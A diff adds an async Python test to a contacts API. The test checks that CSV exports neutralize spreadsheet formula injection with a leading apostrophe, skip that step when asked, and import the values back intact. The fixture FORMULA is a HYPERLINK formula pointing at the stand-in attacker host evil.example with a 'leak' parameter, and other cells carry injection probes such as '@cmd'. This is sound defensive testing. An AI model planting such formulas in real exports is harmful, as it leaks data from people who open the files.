@@ -3,6 +3,7 @@ checked like the search, confined to the caller's location, streamed in keyset b
 
 from __future__ import annotations
 
+import asyncio
 import csv
 import io
 import uuid
@@ -173,3 +174,65 @@ async def test_an_idempotency_key_never_replays_or_holds_an_export(
     again = await api.post(EXPORT, headers=headers, json=body)
     assert "idempotent-replayed" not in again.headers
     assert emails(again) == ["first@example.com", "second@example.com"]
+
+
+FORMULA = '=HYPERLINK("https://evil.example/?leak","Click me")'
+
+
+async def test_cells_a_spreadsheet_would_run_are_exported_as_text_unless_asked(
+    api: httpx.AsyncClient, tenant: Tenant, other_tenant: Tenant
+) -> None:
+    """CSV (formula) injection: a cell starting with =, +, - or @ gets a leading apostrophe, which
+    spreadsheets read as "text"; numbers (E.164 phones) stay as they are; the import takes it off."""
+    await add(
+        api,
+        tenant,
+        email="formula@example.com",
+        phone="+13125550101",
+        first_name="+SUM(1,2)",
+        last_name="-2+3",
+        company_name=FORMULA,
+        city="@cmd",
+        source="plain text",
+    )
+
+    def formula_row(response: httpx.Response) -> dict[str, str]:
+        (row,) = [r for r in rows(response) if r["email"] == "formula@example.com"]
+        return row
+
+    for safe in (
+        await api.get(EXPORT, headers=tenant.headers),
+        await api.post(EXPORT, headers=tenant.headers, json={"query": "formula"}),
+    ):
+        row = formula_row(safe)
+        assert row["company_name"] == "'" + FORMULA
+        assert (row["first_name"], row["last_name"], row["city"]) == ("'+SUM(1,2)", "'-2+3", "'@cmd")
+        assert (row["phone"], row["source"]) == ("+13125550101", "plain text")
+    for raw in (
+        await api.get(EXPORT, headers=tenant.headers, params={"neutralize_formulas": "false"}),
+        await api.post(EXPORT, headers=tenant.headers, json={}, params={"neutralize_formulas": "false"}),
+    ):
+        row = formula_row(raw)
+        assert (row["company_name"], row["first_name"], row["city"]) == (FORMULA, "+SUM(1,2)", "@cmd")
+
+    # The safe export imports back as it was stored.
+    exported = await api.get(EXPORT, headers=tenant.headers)
+    started = await api.post(
+        f"{API}/contacts/imports",
+        headers={**other_tenant.headers, "Content-Type": "text/csv"},
+        content=exported.content,
+    )
+    assert started.status_code == 202, started.text
+    for _ in range(200):
+        job = (await api.get(started.headers["location"], headers=other_tenant.headers)).json()
+        if job["status"] in ("done", "failed"):
+            break
+        await asyncio.sleep(0.05)
+    assert job["counters"]["created"] == 1, job
+    (copied,) = (await api.get(f"{API}/contacts", headers=other_tenant.headers)).json()["items"]
+    assert (copied["company_name"], copied["first_name"], copied["last_name"], copied["city"]) == (
+        FORMULA,
+        "+SUM(1,2)",
+        "-2+3",
+        "@cmd",
+    )
